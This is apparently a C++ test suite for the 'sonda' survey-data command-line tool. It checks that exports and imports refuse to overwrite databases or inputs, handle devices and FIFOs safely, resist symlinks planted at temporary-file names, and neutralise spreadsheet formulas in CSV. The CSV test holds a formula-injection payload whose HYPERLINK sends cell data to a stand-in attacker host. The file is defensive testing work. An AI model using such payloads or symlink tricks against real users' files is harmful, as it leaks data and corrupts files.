// What a careless user or an attacker can type must not destroy data: outputs
// that are the database, an input, a device, a FIFO or a planted symbolic
// link; readers on an empty file; standard output that cannot be written;
// exit codes of imports that stored nothing; spreadsheet formulas in CSV.
// Every case runs the real `sonda` on real files (issue 10).
#include <fcntl.h>
#include <soci/sqlite3/soci-sqlite3.h>
#include <spawn.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <thread>

#include "cli_runner.hpp"
#include "postgres_schema.hpp"

using namespace sonda::test;
namespace fs = std::filesystem;

namespace {

const char* kUuid1 = "7a1c6c2e-0000-4000-8000-000000000001";
const char* kUuid2 = "7a1c6c2e-0000-4000-8000-000000000002";
const char* kUuid3 = "7a1c6c2e-0000-4000-8000-000000000003";

std::string init_db(const ScratchFolder& scratch) {
    const std::string db = scratch.file("study.db");
    const CliResult init = run_sonda({"init", "--db", db, "--study", demo_study_file()});
    REQUIRE(init.exit_code == 0);
    return db;
}

// A database holding two responses, and its NDJSON export.
std::string filled_db(const ScratchFolder& scratch) {
    const std::string db = init_db(scratch);
    const std::string file = scratch.file("seed.ndjson");
    write_file(file, network_response(kUuid1, "workshop-1", "livorno", "LI01") + "\n" +
                         network_response(kUuid2, "workshop-2", "livorno", "LI01") + "\n");
    REQUIRE(run_sonda({"import", "--db", db, file}).exit_code == 0);
    return db;
}

std::string export_ndjson(const std::string& db) {
    const CliResult result = run_sonda({"export", "--db", db, "--form", "network-dimensions"});
    REQUIRE(result.exit_code == 0);
    return result.out;
}

struct stat status_of(const std::string& path) {
    struct stat out {};
    REQUIRE(::lstat(path.c_str(), &out) == 0);
    return out;
}

std::vector<std::string> leftovers(const ScratchFolder& scratch, const std::string& stem) {
    std::vector<std::string> out;
    for (const auto& entry : fs::directory_iterator(scratch.path("")))
        if (entry.path().filename().string().rfind(stem + ".part", 0) == 0)
            out.push_back(entry.path().string());
    return out;
}

}  // namespace

TEST_CASE("[cli] export --out the database itself is refused, the database is intact",
          "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    const std::string before = read_file(db);
    const CliResult result =
        run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", db});
    CHECK(result.exit_code == 1);
    CHECK(result.err.find("--out " + db) != std::string::npos);
    CHECK(result.err.find("database") != std::string::npos);
    CHECK(read_file(db) == before);
    CHECK(count_lines(export_ndjson(db)) == 2);

    SECTION("also through another name of the same file, and its -wal companion") {
        const std::string link = scratch.file("alias.db");
        fs::create_symlink(db, link);
        CHECK(run_sonda({"report", "--db", db, "--form", "network-dimensions", "--out", link})
                  .exit_code == 1);
        CHECK(run_sonda(
                  {"export", "--db", link, "--form", "network-dimensions", "--out", db + "-wal"})
                  .exit_code == 1);
        CHECK(fs::is_symlink(link));
        CHECK(count_lines(export_ndjson(db)) == 2);
    }
}

TEST_CASE("[cli] import --rejected the database or the input is refused before importing",
          "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = init_db(scratch);
    const std::string input = scratch.file("mixed.ndjson");
    const std::string text = network_response(kUuid1, "workshop-1", "livorno", "LI01") + "\n" +
                             network_response(kUuid2, "workshop-2", "livorno", "LI02", 9) + "\n";
    write_file(input, text);

    const CliResult into_db =
        run_sonda({"import", "--db", db, input, "--skip-invalid", "--rejected", db});
    CHECK(into_db.exit_code == 1);
    CHECK(into_db.err.find("--rejected " + db) != std::string::npos);
    CHECK(into_db.err.find("database") != std::string::npos);
    CHECK(into_db.out.find("inserted") == std::string::npos);  // checked first: nothing stored
    CHECK(count_lines(export_ndjson(db)) == 0);

    const CliResult into_input =
        run_sonda({"import", "--db", db, input, "--skip-invalid", "--rejected", input});
    CHECK(into_input.exit_code == 1);
    CHECK(into_input.err.find("input") != std::string::npos);
    CHECK(read_file(input) == text);
    CHECK(count_lines(export_ndjson(db)) == 0);
    CHECK(leftovers(scratch, "mixed.ndjson").empty());
    CHECK(leftovers(scratch, "study.db").empty());
}

TEST_CASE("[cli] --out a device node is written in place, never replaced", "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    // A node like /dev/null (character device 1,3), made here, not the real one.
    const std::string node = scratch.file("null");
    REQUIRE(::mknod(node.c_str(), S_IFCHR | 0666, makedev(1, 3)) == 0);
    const CliResult exported =
        run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", node});
    CHECK(exported.exit_code == 0);
    CHECK(S_ISCHR(status_of(node).st_mode));
    CHECK(status_of(node).st_rdev == makedev(1, 3));
    const CliResult reported = run_sonda({"report", "--db", db, "--form", "network-dimensions",
                                          "--by", "none", "--no-suppression", "--out", node});
    CHECK(reported.exit_code == 0);
    CHECK(S_ISCHR(status_of(node).st_mode));
    CHECK(leftovers(scratch, "null").empty());

    SECTION("a device that cannot take the data is a write error, exit 3") {
        const std::string full = scratch.file("full");
        REQUIRE(::mknod(full.c_str(), S_IFCHR | 0666, makedev(1, 7)) == 0);  // like /dev/full
        const CliResult failed =
            run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", full});
        CHECK(failed.exit_code == 3);
        CHECK(failed.err.find("cannot write " + full) != std::string::npos);
        CHECK(S_ISCHR(status_of(full).st_mode));
    }

    SECTION("a folder or a socket is refused, exit 1") {
        const std::string folder = scratch.file("folder");
        fs::create_directory(folder);
        const CliResult refused =
            run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", folder});
        CHECK(refused.exit_code == 1);
        CHECK(refused.err.find("a folder") != std::string::npos);
        CHECK(fs::is_directory(folder));
    }
}

TEST_CASE("[cli] --out a FIFO writes into it, never renames over it", "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    const std::string fifo = scratch.file("pipe");
    REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);
    const std::string received = scratch.file("received");
    const std::string done = scratch.file("done");
    // A reader in the background: cat ends when sonda closes the FIFO.
    REQUIRE(
        std::system(("(timeout 60 cat '" + fifo + "' > '" + received + "'; touch '" + done + "') &")
                        .c_str()) == 0);
    const CliResult exported =
        run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", fifo});
    for (int i = 0; i < 600 && !fs::exists(done); ++i)
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
    CHECK(exported.exit_code == 0);
    CHECK(S_ISFIFO(status_of(fifo).st_mode));
    CHECK(read_file(received) == export_ndjson(db));
    CHECK(leftovers(scratch, "pipe").empty());
}

TEST_CASE("[cli] a symbolic link planted at the temporary's name cannot redirect the output",
          "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    const std::string victim = scratch.file("victim.txt");
    write_file(victim, "precious\n");
    const std::string out = scratch.file("answers.ndjson");
    // The names an OUT.part-<pid> scheme would use for the next few thousand
    // processes, all pointing at the victim.
    std::ifstream last_pid_file("/proc/sys/kernel/ns_last_pid");
    long last_pid = 0;
    last_pid_file >> last_pid;
    REQUIRE(last_pid > 0);
    for (long pid = last_pid + 1; pid <= last_pid + 3000; ++pid)
        fs::create_symlink(victim, out + ".part-" + std::to_string(pid));
    const CliResult exported =
        run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", out});
    CHECK(exported.exit_code == 0);
    CHECK(read_file(victim) == "precious\n");
    CHECK_FALSE(fs::is_symlink(out));
    CHECK(read_file(out) == export_ndjson(db));
}

TEST_CASE("[cli] --out keeps the mode of the file it replaces, a new file gets 0644 & ~umask",
          "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    const std::string fresh = scratch.file("fresh.ndjson");
    REQUIRE(run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", fresh})
                .exit_code == 0);
    const mode_t mask = ::umask(022);
    ::umask(mask);
    CHECK((status_of(fresh).st_mode & 0777) == (0666 & ~mask));

    const std::string secret = scratch.file("secret.ndjson");
    write_file(secret, "old\n");
    fs::permissions(secret, fs::perms::owner_read | fs::perms::owner_write);
    REQUIRE(run_sonda({"export", "--db", db, "--form", "network-dimensions", "--out", secret})
                .exit_code == 0);
    CHECK((status_of(secret).st_mode & 0777) == 0600);
    CHECK(read_file(secret) == export_ndjson(db));
}

TEST_CASE("[cli] commands exit 3 when standard output cannot be written", "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = filled_db(scratch);
    for (const char* redirection : {">/dev/full", ">&-"}) {
        INFO(redirection);
        const CliResult study = run_sonda_with_stdout({"study", "show", "--db", db}, redirection);
        CHECK(study.exit_code == 3);
        CHECK(study.err.find("cannot write to standard output") != std::string::npos);
        CHECK(run_sonda_with_stdout({"forms", "list", "--db", db}, redirection).exit_code == 3);
        CHECK(run_sonda_with_stdout({"export", "--db", db, "--form", "network-dimensions"},
                                    redirection)
                  .exit_code == 3);
        CHECK(run_sonda_with_stdout({"plugins"}, redirection).exit_code == 3);
    }
    CHECK(count_lines(export_ndjson(db)) == 2);
}

TEST_CASE("[cli] readers never create a database or a schema", "[cli][output]") {
    ScratchFolder scratch;
    const std::string empty = scratch.file("empty.db");
    write_file(empty, "");
    for (const std::vector<std::string>& command :
         {std::vector<std::string>{"report", "--db", empty},
          std::vector<std::string>{"export", "--db", empty, "--form", "network-dimensions"},
          std::vector<std::string>{"study", "show", "--db", empty},
          std::vector<std::string>{"forms", "list", "--db", empty}}) {
        INFO(command.front());
        const CliResult result = run_sonda(command);
        CHECK(result.exit_code == 3);
        CHECK(result.err.find("no sonda data") != std::string::npos);
        CHECK(fs::file_size(empty) == 0);
    }
    const std::string missing = scratch.file("missing.db");
    const CliResult result = run_sonda({"report", "--db", missing});
    CHECK(result.exit_code == 3);
    CHECK(result.err.find("no such file") != std::string::npos);
    CHECK_FALSE(fs::exists(missing));
    for (const char* suffix : {"-wal", "-shm", "-journal"}) CHECK_FALSE(fs::exists(empty + suffix));
}

TEST_CASE("[cli] a writer never creates a database, nor adds sonda's tables to another program's",
          "[cli][output]") {
    ScratchFolder scratch;
    // A mistyped --db of a command that writes is refused, and no file appears.
    const std::string typo = scratch.file("stduy.db");
    write_file(scratch.file("rows.ndjson"), "");
    for (const std::vector<std::string>& command :
         {std::vector<std::string>{"import", "--db", typo, scratch.file("rows.ndjson")},
          std::vector<std::string>{"rescore", "--db", typo, "--form", "network-dimensions"}}) {
        INFO(command.front());
        const CliResult result = run_sonda(command);
        CHECK(result.exit_code == 3);
        CHECK_THAT(result.err, Catch::Contains("no such file (only `sonda init` and `sonda demo` "
                                               "create a database: check the path"));
        CHECK_FALSE(fs::exists(typo));
    }
    // Another program's SQLite file: init and import leave it as it was.
    const std::string other = scratch.file("patients.db");
    {
        soci::session session(*soci::factory_sqlite3(), other);
        session << "CREATE TABLE patients (name TEXT)";
        session << "INSERT INTO patients VALUES ('Rossi')";
    }
    const std::string before = read_file(other);
    for (const std::vector<std::string>& command :
         {std::vector<std::string>{"init", "--db", other, "--study", demo_study_file()},
          std::vector<std::string>{"import", "--db", other, scratch.file("rows.ndjson")}}) {
        INFO(command.front());
        const CliResult result = run_sonda(command);
        CHECK(result.exit_code == 3);
        CHECK_THAT(result.err, Catch::Contains("belongs to another program: it holds tables "
                                               "('patients') and no sonda schema"));
        // Byte for byte: not even its journal mode was switched to WAL.
        CHECK(read_file(other) == before);
        CHECK_FALSE(fs::exists(other + "-wal"));
    }
}

TEST_CASE("[cli] init refuses a PostgreSQL schema that holds another program's tables",
          "[cli][output][postgres]") {
    const std::optional<std::string> url = postgres_test_url();
    if (!url) FAIL("SONDA_TEST_POSTGRES_URL is not set: run script/test");
    PostgresSchema schema(*url);
    {
        soci::session session(*soci::factory_postgresql(), schema.keywords());
        session << "SET search_path TO " + schema.schema();
        session << "CREATE TABLE invoices (id INTEGER)";
    }
    const CliResult result =
        run_sonda({"init", "--db", schema.target(), "--study", demo_study_file()});
    CHECK(result.exit_code == 3);
    CHECK_THAT(result.err, Catch::Contains("belongs to another program: it holds tables "
                                           "('invoices')"));
    // A view is no other program's data: a schema holding only one is sonda's to use.
    PostgresSchema with_view(*url);
    {
        soci::session session(*soci::factory_postgresql(), with_view.keywords());
        session << "SET search_path TO " + with_view.schema();
        session << "CREATE VIEW today AS SELECT CURRENT_DATE AS day";
    }
    CHECK(run_sonda({"init", "--db", with_view.target(), "--study", demo_study_file()}).exit_code ==
          0);
}

TEST_CASE("[cli] import --skip-invalid that stores nothing exits 2 and says so", "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = init_db(scratch);
    const std::string input = scratch.file("all-bad.ndjson");
    write_file(input, network_response(kUuid1, "workshop-1", "livorno", "LI01", 9) + "\n" +
                          network_response(kUuid2, "workshop-2", "livorno", "LI02", 0) + "\n");
    const std::string rejected = scratch.file("rejected.ndjson");
    const CliResult result =
        run_sonda({"import", "--db", db, input, "--skip-invalid", "--rejected", rejected});
    CHECK(result.exit_code == 2);
    CHECK(result.out.find("0 inserted") != std::string::npos);
    CHECK(result.err.find("nothing was stored: every one of its 2 rows was rejected") !=
          std::string::npos);
    CHECK(count_lines(read_file(rejected)) == 2);

    SECTION("one valid row is a success") {
        write_file(input, network_response(kUuid1, "workshop-1", "livorno", "LI01", 9) + "\n" +
                              network_response(kUuid3, "workshop-2", "livorno", "LI03") + "\n");
        CHECK(run_sonda({"import", "--db", db, input, "--skip-invalid"}).exit_code == 0);
    }
}

TEST_CASE("[cli] a failed import counts its problems right: 1 problem, 2 problems",
          "[cli][output]") {
    ScratchFolder scratch;
    const std::string db = init_db(scratch);
    const std::string input = scratch.file("one-bad.ndjson");
    write_file(input, network_response(kUuid1, "workshop-1", "livorno", "LI01") + "\n" +
                          network_response(kUuid2, "workshop-2", "livorno", "LI02", 9) + "\n");
    const CliResult one = run_sonda({"import", "--db", db, input});
    CHECK(one.exit_code == 2);
    CHECK(one.err.find("(1 problem listed above") != std::string::npos);
    write_file(input, network_response(kUuid1, "workshop-1", "livorno", "LI01", 0) + "\n" +
                          network_response(kUuid2, "workshop-2", "livorno", "LI02", 9) + "\n");
    const CliResult two = run_sonda({"import", "--db", db, input});
    CHECK(two.exit_code == 2);
    CHECK(two.err.find("(2 problems listed above") != std::string::npos);
}

TEST_CASE("[cli] CSV export neutralises formulas, importing it gives back the texts",
          "[cli][output][csv]") {
    ScratchFolder scratch;
    // The io test form with a number item that may be negative.
    fs::create_directory(scratch.path("forms"));
    std::string form = read_file(SONDA_TEST_DATA_DIR "/io/form.json");
    const std::string range = "\"min\": 0, \"max\": 100";
    REQUIRE(form.find(range) != std::string::npos);
    form.replace(form.find(range), range.size(), "\"min\": -10, \"max\": 100");
    write_file(scratch.file("forms/form.json"), form);
    const std::string study = SONDA_TEST_DATA_DIR "/io/study.json";
    const std::string db = scratch.file("source.db");
    REQUIRE(run_sonda({"init", "--db", db, "--study", study, "--forms", scratch.file("forms")})
                .exit_code == 0);
    const std::string hyperlink = R"(=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"))";
    const std::string response =
        std::string("{\"id\":\"") + kUuid1 +
        "\",\"form\":\"io-check\",\"form_version\":1,\"wave\":\"workshop-1\","
        "\"territory\":\"livorno\",\"role\":\"social-service\",\"respondent\":\"LI01\","
        "\"answers\":{\"sharing_1\":3,\"hours\":-3,\"note\":\"" +
        hyperlink + "\",\"strengths\":[\"+39 0586 123\",\"@SUM(1)\",\"'=quoted\",\"-\"]}}";
    write_file(scratch.file("in.ndjson"), response + "\n");
    REQUIRE(run_sonda({"import", "--db", db, scratch.file("in.ndjson")}).exit_code == 0);

    for (const char* delimiter : {",", ";"}) {
        INFO(delimiter);
        const std::string csv = scratch.file("answers.csv");
        const std::string decimal = delimiter == std::string(";") ? "," : ".";
        REQUIRE(run_sonda({"export", "--db", db, "--form", "io-check", "--format", "csv-wide",
                           "--delimiter", delimiter, "--decimal", decimal, "--out", csv})
                    .exit_code == 0);
        const std::string text = read_file(csv);
        // No cell starts a formula; the number stays a number.
        CHECK(text.find(std::string(delimiter) + "\"'=HYPERLINK(") != std::string::npos);
        CHECK(text.find(std::string(delimiter) + "=") == std::string::npos);
        CHECK(text.find(std::string(delimiter) + "-3" + delimiter) != std::string::npos);
        const CliResult long_csv =
            run_sonda({"export", "--db", db, "--form", "io-check", "--format", "csv-long"});
        CHECK(long_csv.out.find(",'@SUM(1)") != std::string::npos);
        CHECK(long_csv.out.find(",\"'=HYPERLINK(") != std::string::npos);
        CHECK(long_csv.out.find(",''=quoted") != std::string::npos);

        // Back into a fresh database: the same response, byte for byte.
        const std::string copy =
            scratch.file(std::string("copy") + (*delimiter == ',' ? "1" : "2") + ".db");
        REQUIRE(
            run_sonda({"init", "--db", copy, "--study", study, "--forms", scratch.file("forms")})
                .exit_code == 0);
        const CliResult imported = run_sonda({"import", "--db", copy, csv});
        CHECK(imported.exit_code == 0);
        CHECK(imported.out.find("1 inserted") != std::string::npos);
        const CliResult original = run_sonda({"export", "--db", db, "--form", "io-check"});
        const CliResult again = run_sonda({"export", "--db", copy, "--form", "io-check"});
        CHECK(again.out == original.out);
        CHECK(again.out.find("\"hours\":-3") != std::string::npos);
    }
}

TEST_CASE("[cli] SIGTERM or SIGINT during an import removes the rejected file's temporary",
          "[cli][output]") {
    for (const int signal_number : {SIGTERM, SIGINT}) {
        ScratchFolder scratch;
        const std::string db = init_db(scratch);
        // The input is a FIFO that this test holds open and never writes:
        // sonda waits for rows with the rejected file's temporary created.
        const std::string input = scratch.file("in.ndjson");
        REQUIRE(::mkfifo(input.c_str(), 0600) == 0);
        const int held = ::open(input.c_str(), O_RDWR);
        REQUIRE(held >= 0);
        const std::string rejected = scratch.file("rejected.ndjson");
        const std::string binary = std::string(SONDA_BINARY_DIR) + "/bin/sonda";
        std::vector<std::string> args{binary, "import",         "--db",       db,
                                      input,  "--skip-invalid", "--rejected", rejected};
        std::vector<char*> argv;
        for (std::string& arg : args) argv.push_back(arg.data());
        argv.push_back(nullptr);
        posix_spawn_file_actions_t actions;
        posix_spawn_file_actions_init(&actions);
        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0);
        posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0);
        pid_t child = 0;
        REQUIRE(::posix_spawn(&child, binary.c_str(), &actions, nullptr, argv.data(), ::environ) ==
                0);
        posix_spawn_file_actions_destroy(&actions);
        bool waiting = false;
        for (int i = 0; i < 600 && !waiting; ++i) {
            waiting = !leftovers(scratch, "rejected.ndjson").empty();
            if (!waiting) std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
        CHECK(waiting);
        ::kill(child, signal_number);
        int status = 0;
        REQUIRE(::waitpid(child, &status, 0) == child);
        ::close(held);
        CHECK(WIFSIGNALED(status));
        if (WIFSIGNALED(status)) CHECK(WTERMSIG(status) == signal_number);
        CHECK(leftovers(scratch, "rejected.ndjson").empty());
        CHECK_FALSE(fs::exists(rejected));
        CHECK(count_lines(export_ndjson(db)) == 0);
    }
}
